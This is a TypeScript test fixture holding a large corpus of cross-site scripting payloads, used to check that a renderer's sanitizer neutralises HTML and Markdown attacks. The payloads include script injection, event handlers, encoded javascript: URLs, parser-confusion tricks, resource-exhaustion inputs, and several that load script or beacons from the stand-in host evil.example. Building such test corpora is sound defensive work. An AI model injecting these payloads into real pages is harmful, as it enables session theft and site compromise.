/**
 * Hostile content for the renderer. Each payload is real attack syntax (script injection, event
 * handlers, dangerous URL schemes, namespace and parser-confusion tricks, resource exhaustion);
 * rendered output must pass `findUnsafeMarkup`. Reused by the e2e tier in real webviews.
 */
export interface XssPayload {
  readonly name: string;
  readonly mediaType: string;
  readonly value: string;
}

const HTML = 'text/html';
const MARKDOWN = 'text/markdown';
const PLAIN = 'text/plain';
const EMBED_MARKDOWN = 'application/vnd.dialogporten.frontchannelembed-url;type=text/markdown';
const EMBED_HTML = 'application/vnd.dialogporten.frontchannelembed-url;type=text/html';

const html = (name: string, value: string): XssPayload => ({ name: `html: ${name}`, mediaType: HTML, value });
const markdown = (name: string, value: string): XssPayload => ({
  name: `markdown: ${name}`,
  mediaType: MARKDOWN,
  value,
});

export const XSS_CORPUS: readonly XssPayload[] = [
  // Script elements
  html('script tag', '<script>alert(1)</script>'),
  html('script with src, upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'),
  html('split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  html(
    'script in full document head',
    '<!DOCTYPE html><html><head><script>alert(1)</script></head><body onload=alert(1)>hi</body></html>',
  ),
  html('attribute breakout text', '"><script>alert(1)</script>'),
  html('script inside template', '<template><script>alert(1)</script></template>'),

  // Event handlers
  html('img onerror', '<img src=x onerror=alert(1)>'),
  html('img ONERROR quoted', '<img src="x" ONERROR="alert(1)">'),
  html('img with slashes instead of spaces', '<img/src=x/onerror=alert(1)>'),
  html('img eval(src)', '<img src=x:alert(alt) onerror=eval(src) alt=0>'),
  html('body onload', '<body onload=alert(1)>x</body>'),
  html('details ontoggle', '<details open ontoggle=alert(1)>x</details>'),
  html('marquee onstart', '<marquee onstart=alert(1)>x</marquee>'),
  html('input autofocus onfocus', '<input autofocus onfocus=alert(1)>'),
  html('select autofocus onfocus', '<select autofocus onfocus=alert(1)><option>x</option></select>'),
  html('video source onerror', '<video><source onerror=alert(1)></video>'),
  html('audio onerror', '<audio src=x onerror=alert(1)></audio>'),
  html('isindex', '<isindex type=image src=1 onerror=alert(1)>'),
  html('link with onclick', '<a href="https://ok.example" onclick="alert(1)">x</a>'),
  html('link with unquoted onmouseover', '<a href=https://ok.example onmouseover=alert(1)>x</a>'),
  html(
    'handler hidden in an encoded title',
    '<a href="https://ok.example" title="x&quot; onmouseover=&quot;alert(1)">x</a>',
  ),
  html('paragraph onclick', '<p onclick="alert(1)">x</p>'),

  // Dangerous URL schemes in HTML
  html('javascript: href', '<a href="javascript:alert(1)">x</a>'),
  html('mixed-case javascript: href', '<a href="JaVaScRiPt:alert(1)">x</a>'),
  html('entity-encoded colon', '<a href="javascript&#58;alert(1)">x</a>'),
  html('named-entity colon', '<a href="javascript&colon;alert(1)">x</a>'),
  html(
    'fully entity-encoded scheme',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ),
  html('hex-encoded first letter', '<a href="&#x6A;avascript:alert(1)">x</a>'),
  html(
    'padded decimal entities',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ),
  html('tab inside scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'),
  html('newline inside scheme', '<a href="java\nscript:alert(1)">x</a>'),
  html('control character before scheme', '<a href=" &#14; javascript:alert(1)">x</a>'),
  html('NUL inside scheme', '<a href="java\u0000script:alert(1)">x</a>'),
  html('vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'),
  html('data: text/html href', '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
  html('data: base64 href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
  html('data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
  html('javascript: image src', '<img src="javascript:alert(1)">'),
  html('srcset with javascript:', '<img src="https://ok.example/a.png" srcset="javascript:alert(1)">'),
  html('table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
  html('blockquote cite', '<blockquote cite="javascript:alert(1)">x</blockquote>'),

  // Embedding and navigation elements
  html('iframe javascript:', '<iframe src="javascript:alert(1)"></iframe>'),
  html('iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  html('object data', '<object data="javascript:alert(1)"></object>'),
  html('object data: html', '<object data="data:text/html,<script>alert(1)</script>"></object>'),
  html('embed base64 html', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
  html('frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'),
  html('base href', '<base href="javascript:alert(1)//"><a href="/x">x</a>'),
  html('meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  html('link stylesheet', '<link rel="stylesheet" href="javascript:alert(1)">'),
  html('form action', '<form action="javascript:alert(1)"><input type=submit value=go></form>'),
  html('button formaction', '<button formaction="javascript:alert(1)">x</button>'),

  // Styles
  html('style element import', "<style>@import 'javascript:alert(1)';</style>"),
  html('style element with body rule', '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>'),
  html('style attribute url()', '<div style="background:url(javascript:alert(1))">x</div>'),
  html('style attribute expression()', '<p style="width:expression(alert(1))">x</p>'),

  // SVG and MathML
  html('svg onload', '<svg onload=alert(1)>'),
  html('svg script', '<svg><script>alert(1)</script></svg>'),
  html('svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
  html('svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'),
  html('svg set href', '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'),
  html('math href', '<math href="javascript:alert(1)">click</math>'),
  html('math mtext table mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'),
  html('svg style namespace confusion', '<p><svg><style><img src=x onerror=alert(1)></style></svg></p>'),
  html(
    'form math namespace confusion',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ),

  // Raw-text and parser-confusion (mutation XSS)
  html('noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
  html('textarea', '<textarea><img src=x onerror=alert(1)></textarea>'),
  html('title', '<title><img src=x onerror=alert(1)></title>'),
  html('xmp', '<xmp><img src=x onerror=alert(1)></xmp>'),
  html('comment', '<!--<img src=x onerror=alert(1)>-->'),
  html('bogus comment close', '<!--><img src=x onerror=alert(1)>-->'),
  html('CDATA outside foreign content', '<![CDATA[<img src=x onerror=alert(1)>]]>'),
  html('title attribute holding markup', '<a href="https://ok.example" title="</a><img src=x onerror=alert(1)>">x</a>'),

  // Markdown links, images and raw HTML
  markdown('javascript: link', '[x](javascript:alert(1))'),
  markdown('upper-case JAVASCRIPT: link', '[x](JAVASCRIPT:alert(1))'),
  markdown('entity-encoded colon in link', '[x](javascript&#58;alert(1))'),
  markdown('entity-encoded first letter in link', '[x](&#106;avascript:alert(1))'),
  markdown('angle-bracket destination', '[x](<javascript:alert(1)>)'),
  markdown('percent-encoded newline in scheme', '[x](java%0ascript:alert(1))'),
  markdown('data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
  markdown('vbscript: link', '[x](vbscript:msgbox(1))'),
  markdown('autolink with javascript:', '<javascript:alert(1)>'),
  markdown('javascript: image', '![x](javascript:alert(1))'),
  markdown('data: svg image', '![x](data:image/svg+xml,<svg onload=alert(1)>)'),
  markdown('alt text breakout', '![x" onerror="alert(1)](https://ok.example/a.png)'),
  markdown('title breakout', '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")'),
  markdown('reference link to javascript:', '[x][ref]\n\n[ref]: javascript:alert(1)'),
  markdown('reference image to data:', '![x][img]\n\n[img]: data:text/html,<script>alert(1)</script>'),
  markdown('raw script', 'Hello\n\n<script>alert(1)</script>'),
  markdown('raw img onerror', 'Hello <img src=x onerror=alert(1)> world'),
  markdown('raw javascript: anchor', 'Text <a href="javascript:alert(1)">x</a> inline'),
  markdown('raw iframe block', '<iframe src="javascript:alert(1)"></iframe>\n\nafter'),
  markdown('raw style block', '<style>body{display:none}</style>\n\nafter'),
  markdown('raw svg', '<svg><script>alert(1)</script></svg>'),
  markdown('script in inline code', 'Use `<script>alert(1)</script>` carefully'),
  markdown('script in fenced code', '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```'),
  markdown('link text holding raw html', '[<img src=x onerror=alert(1)>](https://ok.example)'),
  markdown('GFM autolink literal with markup', 'www.example.com/<script>alert(1)</script>'),
  markdown('table cell with raw html', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'),
  markdown('footnote with javascript:', 'Text[^1]\n\n[^1]: [x](javascript:alert(1))'),

  // More vectors: element and attribute variants, encodings, parser differentials
  html('img onerror without quotes or spaces', '<img/src=x/onerror=alert(1)>'),
  html('body onpageshow', '<body onpageshow=alert(1)>'),
  html('audio src onerror', '<audio src=x onerror=alert(1)></audio>'),
  html('textarea autofocus onfocus', '<textarea autofocus onfocus=alert(1)></textarea>'),
  html('keygen autofocus onfocus', '<keygen autofocus onfocus=alert(1)>'),
  html('form action javascript:', '<form action="javascript:alert(1)"><button>go</button></form>'),
  html('button formaction javascript:', '<form><button formaction=javascript:alert(1)>x</button></form>'),
  html('isindex action', '<isindex action=javascript:alert(1) type=image>'),
  html('object data javascript:', '<object data="javascript:alert(1)"></object>'),
  html('embed src data: html', '<embed src="data:text/html,<script>alert(1)</script>">'),
  html('frameset onload', '<frameset onload=alert(1)>'),
  html('link rel import', '<link rel=import href="data:text/html,<script>alert(1)</script>">'),
  html('link stylesheet to foreign host', '<link rel=stylesheet href="https://evil.example/x.css">'),
  html('style @import foreign host', '<style>@import url(https://evil.example/x.css);</style>'),
  html('style attribute background url', '<p style="background:url(https://evil.example/beacon)">x</p>'),
  html(
    'svg animate href javascript:',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  ),
  html('svg use external href', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>'),
  html('svg foreignObject script', '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>'),
  html(
    'math maction href',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  ),
  html('noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  html('noembed mutation', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
  html('xmp mutation', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
  html('comment breakout', '<!--><img src=x onerror=alert(1)>-->'),
  html('conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'),
  html('CDATA in html', '<![CDATA[><img src=x onerror=alert(1)>]]>'),
  html(
    'entity-encoded javascript: href',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ),
  html(
    'hex entity without semicolons',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  ),
  html('leading control character in href', '<a href="\u0001javascript:alert(1)">x</a>'),
  html('protocol-relative img to foreign host', '<img src="//evil.example/beacon.png">'),
  html('img srcset to foreign host', '<img src="https://ok.example/a.png" srcset="https://evil.example/beacon 1x">'),
  html('picture source srcset', '<picture><source srcset="https://evil.example/beacon"><img src=x></picture>'),
  html('meta refresh with url', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  html('base target and href', '<base href="https://evil.example/" target="_top"><a href="x">x</a>'),
  html('dom clobbering id and name', '<form id=config><input name=nonce value=x></form><img name=cookie id=body>'),
  html(
    'data attribute template injection',
    '<div data-bind="html: alert(1)" ng-app>{{constructor.constructor(\'alert(1)\')()}}</div>',
  ),
  markdown('html entity-encoded javascript: link', '[x](&#106;avascript:alert(1))'),
  markdown('image with onerror in title', '![x](https://ok.example/a.png "\\" onerror=\\"alert(1)")'),
  markdown('link to protocol-relative foreign host', '[x](//evil.example/phish)'),
  markdown('setext heading holding raw html', '<img src=x onerror=alert(1)>\n===='),
  markdown('html block inside list item', '- item\n\n  <details open ontoggle=alert(1)>x</details>'),

  // Other media types
  { name: 'plain: script as text', mediaType: PLAIN, value: '<script>alert(1)</script>\n<img src=x onerror=alert(1)>' },
  {
    name: 'embed markdown: javascript: link',
    mediaType: EMBED_MARKDOWN,
    value: '[x](javascript:alert(1)) <img src=x onerror=alert(1)>',
  },
  {
    name: 'embed html: script',
    mediaType: EMBED_HTML,
    value: '<p>x</p><script>alert(1)</script><img src=x onerror=alert(1)>',
  },
  {
    name: 'deprecated +json embed alias',
    mediaType: 'application/vnd.dialogporten.frontchannelembed+json;type=html',
    value: '<svg onload=alert(1)>',
  },
  {
    name: 'unknown media type holding svg',
    mediaType: 'image/svg+xml',
    value: '<svg onload=alert(1)><script>alert(1)</script></svg>',
  },

  // Resource exhaustion
  html('overlong repeated img onerror (truncated mid-tag)', '<img src=x onerror=alert(1)>'.repeat(50_000)),
  markdown('overlong repeated javascript: links', '[x](javascript:alert(1)) '.repeat(50_000)),
  html('10,000-deep div nesting', `${'<div>'.repeat(10_000)}<img src=x onerror=alert(1)>${'</div>'.repeat(10_000)}`),
  html('10,000-deep unclosed formatting', `${'<b><i>'.repeat(10_000)}<script>alert(1)</script>`),
  markdown('10,000-deep blockquote', `${'>'.repeat(10_000)} <img src=x onerror=alert(1)>`),
  markdown('10,000-deep list', `${'- '.repeat(10_000)}[x](javascript:alert(1))`),
  markdown('10,000-deep emphasis', `${'*a '.repeat(10_000)}x${' a*'.repeat(10_000)}`),
  markdown('10,000 nested brackets', `${'['.repeat(10_000)}x${'](javascript:alert(1))'.repeat(10_000)}`),
];
